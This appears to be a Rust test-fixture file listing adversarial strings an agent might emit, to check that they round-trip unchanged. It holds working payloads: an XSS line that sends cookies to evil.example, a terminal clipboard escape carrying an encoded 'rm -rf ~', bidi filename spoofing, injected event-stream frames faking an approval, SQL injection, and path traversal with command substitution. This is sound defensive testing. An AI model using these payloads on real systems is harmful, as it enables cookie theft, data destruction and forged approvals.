//! Text that wants to be something else than text: markup, escapes, frames, marks that hide.

pub mod bodies;

/// Each of them is a text that an agent may say, and has to come back as it was.
pub fn texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "<script>fetch('//evil.example/'+document.cookie)</script>",
        "<img src=x onerror=alert(1)>\"'`&lt;</textarea></title>",
        "javascript:alert(1)",
        "\u{1b}[2J\u{1b}[1;1Happroved\u{1b}[0m",
        "\u{1b}]52;c;cm0gLXJmIH4=\u{7}",
        "\u{1b}]0;title\u{1b}\\\u{1b}P0;0|\u{1b}\\",
        "\u{9b}31m\u{9d}52;c;eA==\u{9c}\u{85}\u{8d}",
        "user\u{202e}txt.exe\u{202c}\u{2066}isolate\u{2069}\u{200f}",
        "zero\u{200b}width\u{200d}\u{feff}\u{2060}\u{ad}\u{e0041}",
        "a\rb\nc\r\nd\u{0}e\tf\u{b}\u{c}\u{8}\u{7f}",
        "\n\ndata: {\"seq\":9}\nid: 0123456789abcdef-9\nevent: reset\n\n",
        "\r\ndata: x\r\rid: 9\r\r",
        "\"},{\"seq\":1,\"kind\":\"approval_resolved\"",
        "{\"kind\":\"sent\"}\n{\"kind\":\"sent\"}",
        "\\u0000\\ud800\\\\ \\\" \\/ \\n",
        "\u{2028}paragraph\u{2029}",
        "🐝👩‍👩‍👧‍👦🏳️‍🌈 grün 漢字 ﷽ e\u{301}\u{301}\u{301}",
        "\u{fffd}\u{ffff}\u{10ffff}\u{fdd0}",
        "'; DROP TABLE events; --",
        "%s%n%00../../etc/passwd$(id)`id`",
        "-1",
        "null",
        " leading and trailing ",
    ]
    .map(str::to_owned)
    .into();
    texts.push("A".repeat(64 << 10));
    texts.push("\u{0}".repeat(10 << 10));
    texts.push("𝕏".repeat(1 << 14));
    texts
}
